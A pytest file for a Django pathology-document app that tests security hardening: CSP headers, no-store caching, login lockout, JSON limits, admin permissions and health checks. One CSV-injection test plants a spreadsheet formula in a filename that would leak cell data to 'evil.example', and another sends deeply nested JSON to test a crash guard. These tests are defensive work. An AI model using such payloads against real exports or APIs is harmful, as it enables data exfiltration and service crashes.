"""Hardening (issue 11): CSP, no-store on patient data, login lockout, CSV injection, JSON
limits on the API, the Admins' Django admin permissions, and a health check that says what
failed."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import timedelta

import pytest
from django.urls import reverse

from reliability.services import api_token_create
from tests.conftest import PASSWORD, ROOT, ready_document

pytestmark = pytest.mark.django_db


# -- Content-Security-Policy ----------------------------------------------------------------------


def test_pages_carry_a_csp_that_allows_only_this_sites_scripts(reviewer_client):
    response = reviewer_client.get(reverse("documents:list"))
    policy = response["Content-Security-Policy"]
    directives = dict(
        (part.split()[0], part.split()[1:]) for part in policy.split(";") if part.strip()
    )
    assert directives["script-src"] == ["'self'"]
    assert directives["default-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


def test_no_template_has_an_inline_script_or_event_handler():
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text()
        for tag in re.findall(r"<script\b[^>]*>", text):
            if "src=" not in tag and 'type="application/json"' not in tag:
                offenders.append(f"{path.name}: {tag}")
        offenders += [f"{path.name}: {m}" for m in re.findall(r"\son[a-z]+\s*=", text)]
    assert offenders == []


# -- Cache-Control: no-store ----------------------------------------------------------------------


def test_pages_files_and_the_api_are_never_stored(client, reviewer, admin_user, settings):
    document = ready_document("SURGICAL PATHOLOGY REPORT\n\nCarcinoma.", sha="d")
    _, key = api_token_create(user=reviewer, name="lims")
    client.force_login(reviewer)
    responses = {
        "list": client.get(reverse("documents:list")),
        "detail": client.get(reverse("documents:detail", args=[document.pk])),
        "api": client.get(
            f"/api/v1/documents/{document.pk}/", headers={"Authorization": f"Bearer {key}"}
        ),
    }
    client.force_login(admin_user)
    responses["export"] = client.get(reverse("review:export"), {"format": "csv"})
    client.logout()
    responses["login"] = client.get(reverse("login"))
    for name, response in responses.items():
        assert "no-store" in response.get("Cache-Control", ""), name


# -- login throttling -------------------------------------------------------------------------


def test_wrong_passwords_lock_the_account_until_the_cool_off(client, reviewer, settings):
    settings.AXES_FAILURE_LIMIT = 3
    settings.AXES_COOLOFF_TIME = timedelta(seconds=2)
    url = reverse("login")
    for _ in range(3):
        wrong = client.post(url, {"username": reviewer.username, "password": "guess"})
        assert "_auth_user_id" not in client.session
    assert wrong.status_code == 429
    refused = client.post(url, {"username": reviewer.username, "password": PASSWORD})
    assert refused.status_code == 429 and "_auth_user_id" not in client.session

    time.sleep(2.2)
    allowed = client.post(url, {"username": reviewer.username, "password": PASSWORD})
    assert allowed.status_code == 302 and client.session["_auth_user_id"] == str(reviewer.pk)


def test_a_few_wrong_passwords_do_not_lock_anyone_out(client, reviewer, settings):
    settings.AXES_FAILURE_LIMIT = 3
    url = reverse("login")
    for _ in range(2):
        client.post(url, {"username": reviewer.username, "password": "guess"})
    allowed = client.post(url, {"username": reviewer.username, "password": PASSWORD})
    assert allowed.status_code == 302


# -- CSV injection ----------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_csv_cells_that_start_like_a_formula_are_neutralised(start):
    from review.serializers import csv_cell

    assert csv_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert csv_cell("Jane_Roe.pdf") == "Jane_Roe.pdf"
    assert csv_cell(-3) == -3 and csv_cell(None) == ""


def test_a_formula_filename_reaches_the_csv_export_as_text(admin_user, client):
    from tests.review.test_exports import accepted

    truth = accepted("pathology", sha="f")
    from documents.models import Document

    Document.objects.filter(pk=truth.document_id).update(
        original_filename='=HYPERLINK("http://evil.example/?"&A1,"open").pdf'
    )
    client.force_login(admin_user)
    response = client.get(reverse("review:export"), {"format": "csv"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert rows and rows[0]["filename"].startswith("'=HYPERLINK(")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value


# -- JSON limits on the API -------------------------------------------------------------------


@pytest.fixture
def api_key(reviewer):
    return api_token_create(user=reviewer, name="lims")[1]


def test_deeply_nested_options_are_a_json_400_not_a_crash(client, api_key):
    from django.core.files.uploadedfile import SimpleUploadedFile

    nested = "[" * 100_000 + "]" * 100_000
    response = client.post(
        "/api/v1/documents/",
        {
            "file": SimpleUploadedFile("a.txt", b"A short clinic letter.", "text/plain"),
            "options": nested,
        },
        headers={"Authorization": f"Bearer {api_key}"},
    )
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["code"] == "too_deep"


def test_deep_or_huge_json_bodies_are_refused_in_json(client, api_key, settings):
    headers = {"Authorization": f"Bearer {api_key}"}
    deep = '{"operation": "filter", "documents": [], "x": ' + "[" * 5000 + "]" * 5000 + "}"
    response = client.post(
        "/api/v1/evaluate/", deep, content_type="application/json", headers=headers
    )
    assert response.status_code == 400 and response.json()["code"] == "too_deep"

    settings.API_JSON_MAX_BYTES = 2048
    big = json.dumps({"operation": "filter", "documents": [], "question": "x" * 4000})
    response = client.post(
        "/api/v1/evaluate/", big, content_type="application/json", headers=headers
    )
    assert response.status_code == 413 and response.json()["code"] == "too_large"

    response = client.post(
        "/api/v1/evaluate/", "{not json", content_type="application/json", headers=headers
    )
    assert response.status_code == 400 and response.json()["code"] == "invalid_json"


def test_an_unexpected_api_error_is_answered_in_json(client, api_key, monkeypatch):
    from api import documents as documents_api

    def boom(*args, **kwargs):
        raise RuntimeError("unexpected")

    monkeypatch.setattr(documents_api, "own_document", boom)
    document = ready_document("Text.", sha="e")
    response = client.get(
        f"/api/v1/documents/{document.pk}/", headers={"Authorization": f"Bearer {api_key}"}
    )
    assert response.status_code == 500
    assert response.json()["code"] == "error" and "unexpected" not in response.content.decode()


# -- the Admins role in Django admin ------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/admin/review/auditevent/",
        "/admin/auth/user/",
        "/admin/auth/user/add/",
        "/admin/reliability/apitoken/",
        "/admin/axes/accessattempt/",
    ],
)
def test_admins_manage_what_the_readme_says_in_django_admin(client, admin_user, url):
    client.force_login(admin_user)
    assert client.get(url).status_code == 200


def test_admins_cannot_make_anyone_a_superuser(client, admin_user, reviewer):
    client.force_login(admin_user)
    page = client.get(f"/admin/auth/user/{reviewer.pk}/change/").content.decode()
    assert 'name="is_superuser"' not in page and 'name="groups"' in page


def test_reviewers_still_have_no_django_admin(client, reviewer):
    client.force_login(reviewer)
    assert client.get("/admin/auth/user/").status_code == 302


# -- /healthz -----------------------------------------------------------------------------------


def test_the_health_check_names_what_failed(client, settings, tmp_path):
    assert client.get(reverse("healthz")).json()["checks"] == {"database": "ok", "media": "ok"}

    blocked = tmp_path / "not-a-directory"
    blocked.write_text("a file where the media directory should be")
    settings.MEDIA_ROOT = blocked
    settings.REDIS_URL = "redis://127.0.0.1:1/0"  # nothing listens there
    response = client.get(reverse("healthz"))
    assert response.status_code == 503
    body = response.json()
    assert body["status"] == "failed" and body["failed"] == ["media", "redis"]
    assert body["checks"]["database"] == "ok"


def test_the_health_check_reports_a_database_failure(client, monkeypatch):
    from config import urls

    def down():
        raise OSError("connection refused")

    monkeypatch.setattr(urls, "_check_database", down)
    response = client.get(reverse("healthz"))
    assert response.status_code == 503 and response.json()["failed"] == ["database"]


def test_the_health_check_with_redis_up(client, redis_url):
    body = client.get(reverse("healthz")).json()
    assert body == {"status": "ok", "checks": {"database": "ok", "media": "ok", "redis": "ok"}}
